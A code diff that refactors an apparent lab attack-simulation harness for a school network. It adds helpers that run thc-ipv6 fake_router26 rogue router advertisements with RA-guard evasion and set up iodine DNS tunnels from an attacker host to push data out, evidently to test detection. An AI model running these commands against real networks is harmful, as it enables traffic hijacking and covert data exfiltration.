@@ -1102,30 +1102,39 @@ def kill_router(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
+def _fake_router26(lan: SchoolLan, args: list[str], accept_ra: bool = False) -> tuple[str, str]:
+    """fake_router26 on the attacker with ``args``, the attacker and student 1 on IPv6;
+    ``accept_ra``: student 1 takes router advertisements (accept_ra=2) first. Returns
+    the tool's output and the attacker's link-local address (the advertisements' source)."""
+    a, victim = lan.attacker, lan.students[0]
+    lan.ipv6(a, ATTACKER6)
+    lan.ipv6(victim, STUDENT6)
+    try:
+        time.sleep(2)  # DAD of the link-local addresses
+        if accept_ra:
+            lan.run(victim.ns, "sysctl", "-qw", f"net.ipv6.conf.{IF}.accept_ra=2")
+        lan.attack_started = time.monotonic()
+        out = _bounded(lan, a.ns, 20, "atk6-fake_router26", *args)
+        return out, _link_local(lan, a)
+    finally:
+        lan.ipv6(victim, None)
+        lan.ipv6(a, None)
+
+
 def _rogue_ra_evading(name: str, evasion: str, what: str):  # type: ignore[no-untyped-def]
     """fake_router26 with one of its RA-guard evasions: the advertisement behind
     extension headers or split into fragments, as a switch's RA guard is stepped around."""
 
     def run(lan: SchoolLan, small: bool = False) -> Outcome:
-        a, victim = lan.attacker, lan.students[0]
-        lan.ipv6(a, ATTACKER6)
-        lan.ipv6(victim, STUDENT6)
         prefix = "fd77:bad::/64"
         args = ["-E", evasion, "-A", prefix, "-i", "2", "-n", "5", IF]
-        try:
-            time.sleep(2)  # DAD of the link-local addresses
-            lan.attack_started = time.monotonic()
-            out = _bounded(lan, a.ns, 20, "atk6-fake_router26", *args)
-            link_local = _link_local(lan, a)
-        finally:
-            lan.ipv6(victim, None)
-            lan.ipv6(a, None)
+        out, link_local = _fake_router26(lan, args)
         return Outcome(
             name,
             ("rogue_ra",),
             "atk6-fake_router26 " + " ".join(args),
             f"thc-ipv6 fake_router26 -E {evasion}: five router advertisements for {prefix}, {what}",
-            a,
+            lan.attacker,
             "thc-ipv6",
             notes={"attacker_ip6": link_local, "output_tail": out[-300:]},
         )
@@ -1312,28 +1321,45 @@ def dnscat2_direct(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
+@contextlib.contextmanager
+def _iodine_tunnel(
+    lan: SchoolLan, tag: str, tunnel_ip: str, args: list[str], seconds: int
+) -> Iterator[bool]:
+    """iodined on the internet host (tunnel address ``tunnel_ip``/27), then iodine with
+    ``args`` on the attacker for at most ``seconds`` (logs ``iodined-TAG``, ``iodine-TAG``);
+    yields whether the tunnel came up within 30 s, and stops both after."""
+    a, wan = lan.attacker, lan.wan
+    server = lan.start(
+        wan.ns, f"iodined-{tag}", "iodined", "-f", "-c", "-P", "labsecret", "-l", wan.ip,
+        "-p", "53", f"{tunnel_ip}/27", TUNNEL_DOMAIN,
+    )  # fmt: skip
+    client = None
+    up = False
+    try:
+        time.sleep(1)
+        lan.attack_started = time.monotonic()
+        timeout = ("timeout", "-s", "INT", str(seconds))
+        client = lan.start(a.ns, f"iodine-{tag}", *timeout, "iodine", *args)
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and client.poll() is None:
+            if "Connection setup complete" in lan.log(f"iodine-{tag}"):
+                up = True
+                break
+            time.sleep(0.3)
+        yield up
+    finally:
+        if client is not None:
+            lan.stop(client, signal.SIGINT)
+        lan.stop(server)
+
+
 def _iodine_direct(name: str, qtype: str):  # type: ignore[no-untyped-def]
     """iodine with -T QTYPE, straight to iodined on the internet host (no resolver)."""
 
     def run(lan: SchoolLan, small: bool = False) -> Outcome:
         a, wan = lan.attacker, lan.wan
-        server = lan.start(
-            wan.ns, "iodined-direct", "iodined", "-f", "-c", "-P", "labsecret", "-l", wan.ip,
-            "-p", "53", "172.31.78.1/27", TUNNEL_DOMAIN,
-        )  # fmt: skip
         args = ["-f", "-r", "-T", qtype, "-P", "labsecret", wan.ip, TUNNEL_DOMAIN]
-        client = None
-        up = False
-        try:
-            time.sleep(1)
-            lan.attack_started = time.monotonic()
-            client = lan.start(a.ns, "iodine-direct", "timeout", "-s", "INT", "45", "iodine", *args)
-            deadline = time.monotonic() + 30
-            while time.monotonic() < deadline and client.poll() is None:
-                if "Connection setup complete" in lan.log("iodine-direct"):
-                    up = True
-                    break
-                time.sleep(0.3)
+        with _iodine_tunnel(lan, "direct", "172.31.78.1", args, 45) as up:
             if up:  # push a little data through the tunnel
                 lan.run(a.ns, "busybox", "ping", "-c", "5", "-i", "0.3", "172.31.78.1", timeout=15)
                 lan.run(
@@ -1347,10 +1373,6 @@ def _iodine_direct(name: str, qtype: str):  # type: ignore[no-untyped-def]
                     "http://172.31.78.1/chunk.bin",
                     timeout=15,
                 )
-        finally:
-            if client is not None:
-                lan.stop(client, signal.SIGINT)
-            lan.stop(server)
         return Outcome(
             name,
             ("dns_tunnel", "dns_bypass"),
